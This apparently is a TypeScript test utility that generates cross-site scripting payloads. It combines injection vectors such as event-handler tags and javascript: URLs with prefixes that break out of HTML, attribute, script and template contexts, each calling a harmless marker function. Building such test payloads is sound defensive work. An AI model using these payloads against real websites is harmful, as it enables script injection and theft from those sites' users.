// More than two hundred XSS payloads; each calls `pwn()` if it executes.
const vectors = [
  '<script>pwn()</script>',
  '<img src=x onerror=pwn()>',
  '<svg onload=pwn()>',
  '<iframe srcdoc="<script>parent.pwn()</script>">',
  '<details open ontoggle=pwn()>',
  '<video><source onerror=pwn()></video>',
  '<body onload=pwn()>',
  '<input autofocus onfocus=pwn()>',
  '<a href=javascript:pwn()>x</a>',
  '<math><mi xlink:href=javascript:pwn()>x',
  '<style onload=pwn()></style>',
  '<object data=javascript:pwn()>',
  '<form action=javascript:pwn()><button>x',
  '<meta http-equiv=refresh content=0;url=javascript:pwn()>',
  '<template><img src=x onerror=pwn()></template>',
];

/** Prefixes that break out of the context a text may be inserted in. */
const openings = [
  '',
  '">',
  "'>",
  '</title>',
  '</script>',
  '</textarea>',
  '</style>',
  '-->',
  ']]>',
  '</noscript>',
  '" onmouseover=pwn() x="',
  '&lt;img src=x onerror=pwn()&gt;',
  'javascript:pwn()//',
  '{{constructor.constructor("pwn()")()}}',
];

const all = openings.flatMap((opening) => vectors.map((vector) => `${opening}${vector}`));

/** A subset that contains every vector and every prefix. */
export const payloads = (count: number) => {
  const step = all.length / Math.min(count, all.length);
  return Array.from({ length: Math.min(count, all.length) }, (_, index) => {
    const opening = Math.floor((index * step) / vectors.length) % openings.length;
    return `${openings[opening]}${vectors[index % vectors.length]}`;
  });
};

/** The payload if it fits the field; a truncated one would be harmless and prove nothing. */
export const fitting = (payload: string, limit: number) => (payload.length <= limit ? payload : '<svg onload=pwn()>');
